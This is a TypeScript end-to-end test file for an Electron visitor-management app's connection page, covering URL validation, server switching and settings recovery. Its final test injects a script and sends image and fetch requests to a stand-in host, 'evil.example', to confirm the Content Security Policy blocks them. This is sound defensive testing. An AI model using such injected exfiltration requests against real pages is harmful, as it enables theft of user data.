/** The connection page in Electron: the first start, several servers, and attacks on the page. */
import { readFileSync } from "node:fs";
import { join } from "node:path";
import type { Page } from "playwright-core";
import { beforeEach, expect, test } from "vitest";
import { healthy, listen, saying, serve } from "../support/servers.ts";
import { type Desk, deskSuite } from "./desk.ts";

const suite = deskSuite();
const shared = suite.share();

// the servers of these tests have no console API
beforeEach(() => suite.allowErrors(/CallError/));

/** The connection page, also where a server is chosen. @param servers each answers */
async function open(...servers: string[]): Promise<Desk> {
  const desk = await shared({ servers, at: "/" });
  await desk.page.getByRole("heading", { level: 1 }).waitFor();
  return desk;
}

const stored = ({ userData }: Desk) => JSON.parse(readFileSync(join(userData, "settings.json"), "utf8"));

const arrives = (page: Page) => page.waitForURL((url) => url.pathname.startsWith("/dash/"));

/** Replaces the system's browser, which fails the second time. @returns the opened addresses */
async function browserOf({ app }: Desk): Promise<() => Promise<string[]>> {
  await app.evaluate(({ shell }) => {
    const opened: string[] = [];
    Object.assign(globalThis, { opened });
    shell.openExternal = async (url) => {
      if (opened.push(url) > 1) throw new Error("There is no browser.");
    };
  });
  return () => app.evaluate(() => (globalThis as unknown as { opened: string[] }).opened);
}

const address = (page: Page) => page.getByRole("textbox", { name: "서버 주소" });
const type = async (page: Page, text: string) => {
  await address(page).fill(text);
  await address(page).press("Enter");
};
const sees = (page: Page, text: string) => page.getByText(text, { exact: false }).first().waitFor();

test("the first start says why an address or a server is refused, connects, and later shows the server", async () => {
  const desk = await open();
  const { page, origin } = desk;
  expect(await page.title()).toBe("방문 관리");
  const input = address(page);
  expect(await input.and(page.locator(":focus")).count()).toBe(1);
  for (const [typed, words] of [
    ["", "서버 주소를 입력해 주십시오."],
    ["visit example", "주소 형식이 올바르지 않습니다."],
    ["ftp://visit.example.com", "https://로 시작하는 주소만"],
    ["http://visit.example.com", "암호화되지 않는 http://"],
    ["https://me:secret@visit.example.com", "아이디나 비밀번호를 넣을 수 없습니다."],
  ] as const) {
    await type(page, typed);
    await sees(page, words);
    expect(await input.getAttribute("aria-invalid")).toBe("true");
    const described = (await input.getAttribute("aria-describedby")) ?? "";
    const error = described.split(" ")[0] ?? "";
    expect(await page.locator(`[id="${error}"]`).textContent()).toContain(words);
    expect(await input.and(page.locator(":focus")).count()).toBe(1);
    await input.fill("https://");
    await expect.poll(() => input.getAttribute("aria-invalid")).toBeNull();
  }

  const wifi = await serve(saying(200, "text/html", "<html>Wi-Fi</html>"));
  const other = await serve(saying(200, "application/json", '{"status":"ok","product":"wiki"}'));
  const moved = await serve((_request, response) =>
    response.writeHead(302, { Location: "https://portal.example/login" }).end(),
  );
  for (const [{ origin: refused }, words] of [
    [wifi, "웹페이지가 응답했습니다"],
    [other, "방문 관리 서버가 아닙니다"],
    [moved, "다른 주소(portal.example)로 넘겨져"],
  ] as const) {
    await type(page, refused);
    await sees(page, words);
  }
  expect(stored(desk).servers).toEqual([]);

  const server = await serve(healthy);
  const opened = await browserOf(desk);
  await type(page, `${server.origin}/form`);
  await arrives(page);
  expect(stored(desk)).toMatchObject({ servers: [server.origin], current: server.origin });
  await page.goto(`${origin}/`);
  await page.getByRole("region", { name: "사용 중인 서버" }).getByText("연결됨").waitFor();
  await page.getByRole("button", { name: "방문예약 사이트 열기" }).click();
  await expect.poll(opened).toEqual([`${server.origin}/`]);
  await page.getByRole("button", { name: "방문예약 사이트 열기" }).click();
  await page.getByRole("alert").getByText("브라우저를 열지 못했습니다.").waitFor();
  await page.getByRole("button", { name: "방문 관리 열기" }).click();
  await arrives(page);
});

test("lost settings and an unreadable policy are reported, and the language is chosen on the page and kept", async () => {
  const settings = '{"servers":["https://visit';
  const desk = await suite.start({ settings, policy: '{"servers":["https' });
  const { page } = desk;
  await sees(page, "저장된 설정을 읽을 수 없어 초기화했습니다.");
  await page.getByRole("combobox", { name: "언어 선택 (Language)" }).selectOption("en");
  await page.getByRole("heading", { name: "Connect to your server" }).waitFor();
  await page.getByRole("alert").getByText("could not be read and were not applied").waitFor();
  expect(await page.getByRole("textbox").count()).toBe(1);
  await expect
    .poll(() => page.evaluate("[document.documentElement.lang, document.title]"))
    .toEqual(["en", "Visitor Desk"]);
  await expect.poll(() => stored(desk).language).toBe("en");
});

test("servers are changed and removed by keyboard; where one fails, the chosen one stays and is checked again", async () => {
  const [one, two, gone] = [await serve(healthy), await listen(healthy), await listen(healthy)];
  const desk = await open(one.origin, two.origin, gone.origin);
  const { page, origin } = desk;
  await gone.close();
  await page.getByRole("button", { name: `${gone.origin}에 연결` }).click();
  await page.getByRole("listitem").getByText("서버에 연결하지 못했습니다.").waitFor();
  expect(stored(desk).current).toBe(one.origin);
  await sees(page, "연결됨");

  const press = async (name: string) => {
    for (let n = 0; n < 16; n++) {
      await page.keyboard.press("Tab");
      const label = await page.evaluate(
        "document.activeElement?.getAttribute('aria-label') ?? document.activeElement?.textContent",
      );
      if (label === name) return page.keyboard.press("Enter");
    }
    throw new Error(`"${name}" is not reached.`);
  };
  await press(`${two.origin}에 연결`);
  await arrives(page);
  expect(stored(desk).current).toBe(two.origin);
  await page.goto(`${origin}/`);
  await page.getByRole("heading", { level: 1 }).waitFor();
  await press(`${one.origin} 삭제`);
  await expect.poll(() => stored(desk).servers).toEqual([two.origin, gone.origin]);

  await two.close();
  await page.getByRole("button", { name: "다시 확인" }).click();
  await page.getByText("연결 안 됨").waitFor();
  expect(await page.getByRole("button", { name: "방문예약 사이트 열기" }).count()).toBe(0);
});

test("a frame inside the page has no access to the main process, and the policy blocks injected scripts", async () => {
  suite.allowErrors(/Content Security Policy/);
  const { page } = await open();
  const inFrame = await page.evaluate(`
    const { contentWindow } = document.body.appendChild(document.createElement("iframe"));
    [typeof contentWindow.desktop, typeof contentWindow.require, typeof contentWindow.process];
  `);
  expect(inFrame).toEqual(["undefined", "undefined", "undefined"]);
  expect(await page.evaluate("[typeof window.desktop, typeof require, typeof process]")).toEqual([
    "object",
    "undefined",
    "undefined",
  ]);
  const outcome = await page.evaluate(`(async () => {
    const broken = [];
    const allReported = new Promise((resolve) => {
      document.addEventListener("securitypolicyviolation", (event) => {
        if (broken.push(event.effectiveDirective) === 3) resolve();
      });
    });
    const script = document.createElement("script");
    script.textContent = "window.slipped = true";
    document.body.append(script);
    const image = new Image();
    image.src = "https://evil.example/?stolen";
    document.body.append(image);
    await fetch("https://evil.example/").catch(() => {});
    await allReported;
    return { broken: broken.sort(), slipped: "slipped" in window };
  })()`);
  expect(outcome).toEqual({ broken: ["connect-src", "img-src", "script-src-elem"], slipped: false });
});
